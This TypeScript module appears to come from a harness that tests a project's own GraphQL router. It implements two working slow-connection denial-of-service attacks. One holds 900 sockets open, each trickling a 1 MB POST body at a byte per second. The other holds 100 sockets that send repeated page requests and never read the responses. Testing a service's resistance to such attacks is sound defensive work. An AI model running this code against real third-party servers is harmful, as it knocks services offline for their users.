// Attacks with connections.
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { createTally } from '../tally.ts'
import type { Attack } from '../target.ts'

/** A connection of the attacker to the router. */
async function openSocket(url: string, localAddress: string): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port), localAddress })
  socket.on('error', () => {})
  await once(socket, 'connect')
  return socket
}

/** Keeps this number of connections open. `hold` uses each until the server closes it. */
async function keepOpen(
  count: number,
  signal: AbortSignal,
  connectOne: () => Promise<Socket>,
  hold: (socket: Socket) => void,
) {
  const { tally, sent, answered } = createTally()
  const open = new Set<Socket>()
  const keepOne = async () => {
    while (!signal.aborted) {
      try {
        sent()
        const socket = await connectOne()
        open.add(socket)
        const closed = once(socket, 'close')
        hold(socket)
        await closed
        open.delete(socket)
        answered('closed')
      } catch (error) {
        answered((error as { code?: string }).code ?? 'failed')
      }
      // One connection costs the attacker a moment, too.
      await pause(1_000)
    }
  }
  const keeping = Array.from({ length: count }, keepOne)
  await once(signal, 'abort')
  for (const socket of open) socket.destroy()
  await Promise.all(keeping)
  return tally
}

export const slowBodies: Attack = {
  name: 'slow bodies',
  description: '900 connections, each sends a body of 1 MB at one byte per second',
  run: ({ urls, address }, signal) =>
    keepOpen(
      900,
      signal,
      () => openSocket(urls.router, address),
      (socket) => {
        socket.resume()
        socket.write(
          'POST /graphql HTTP/1.1\r\nhost: waybill\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n',
        )
        const timer = setInterval(() => socket.write(' '), 1_000)
        socket.once('close', () => clearInterval(timer))
      },
    ),
}

const page = JSON.stringify({ query: '{ products(first: 100) { nodes { id name description } } }' })
const pageRequest =
  'POST /graphql HTTP/1.1\r\nhost: waybill\r\ncontent-type: application/json\r\n' +
  `content-length: ${page.length}\r\n\r\n${page}`

export const slowReaders: Attack = {
  name: 'slow readers',
  description: '100 connections, each requests a page of long descriptions ten times and reads no response',
  run: ({ urls, address }, signal) =>
    keepOpen(
      100,
      signal,
      () => openSocket(urls.router, address),
      (socket) => {
        socket.pause()
        socket.write(pageRequest.repeat(10))
        // A paused socket does not notice that it is closed: look now and then, without reading the answer.
        const timer = setInterval(() => socket.write(' '), 1_000)
        socket.once('close', () => clearInterval(timer))
      },
    ),
}
